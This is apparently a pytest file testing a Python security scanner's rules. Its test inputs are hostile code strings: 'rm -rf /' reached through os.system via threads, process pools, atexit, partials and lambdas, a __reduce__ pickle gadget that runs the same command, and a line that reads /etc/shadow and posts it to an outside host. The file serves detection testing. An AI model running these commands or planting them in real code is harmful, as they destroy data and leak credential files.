"""Calls: what a function is, and what becomes of what it is given."""

from __future__ import annotations

import pytest

from ...code.conftest import Rules


@pytest.mark.parametrize(
    "call",
    [
        "threading.Thread(target=os.system, args=('rm -rf /',)).start()",
        "threading.Timer(1, os.system, ['rm -rf /']).start()",
        "multiprocessing.Process(target=os.system, args=['rm -rf /']).start()",
        "pool.map(os.system, ['rm -rf /'])",
        "pool.apply_async(os.system, ('rm -rf /',))",
        "pool.submit(os.system, 'rm -rf /')",
        "atexit.register(os.system, 'rm -rf /')",
        "loop.run_in_executor(None, os.system, 'rm -rf /')",
        "sched.enter(1, 1, os.system, ('rm -rf /',))",
        "asyncio.to_thread(os.system, 'rm -rf /')",
        "list(map(lambda c: os.system(c), ['rm -rf /']))",
        "functools.partial(os.system)('rm -rf /')",
        "threading.Thread(target=lambda: os.system('rm -rf /')).start()",
        "threading.Thread(target=os.system, kwargs={'command': 'rm -rf /'}).start()",
    ],
)
def test_functions_that_are_handed_over_are_called(call: str, rules: Rules) -> None:
    assert "047" in rules(f"import os, threading, functools\n{call}")


def test_a_key_does_not_come_back_from_a_client(rules: Rules) -> None:
    assert rules("import os\nc = Client(os.environ['API_KEY'])\nprint(c.ask('x'))") == set()


def test_a_secret_does(rules: Rules) -> None:
    source = "import requests\ns = Box(open('/etc/shadow').read())\nrequests.post('https://x.io', data=s.open())"
    assert "060" in rules(source)


@pytest.mark.parametrize("method", ["__reduce__", "__reduce_ex__"])
def test_gadgets_are_read_for_what_they_run(method: str, rules: Rules) -> None:
    source = f"import os\nclass A:\n    def {method}(self, *a):\n        return os.system, ('rm -rf /',)"
    assert {"016", "047"} <= rules(source)


@pytest.mark.parametrize(
    ("change", "word"),
    [
        ("a.append('/')", "append"),
        ("a.extend(['/'])", "extend"),
        ("a.insert(2, '/')", "insert"),
        ("a += ['/']", "+="),
        ("a = [*a, '/']", "spread"),
    ],
)
def test_lists_that_grow(change: str, word: str, rules: Rules) -> None:
    assert "047" in rules(f"import subprocess\na = ['rm', '-rf']\n{change}\nsubprocess.run(a)  # {word}")
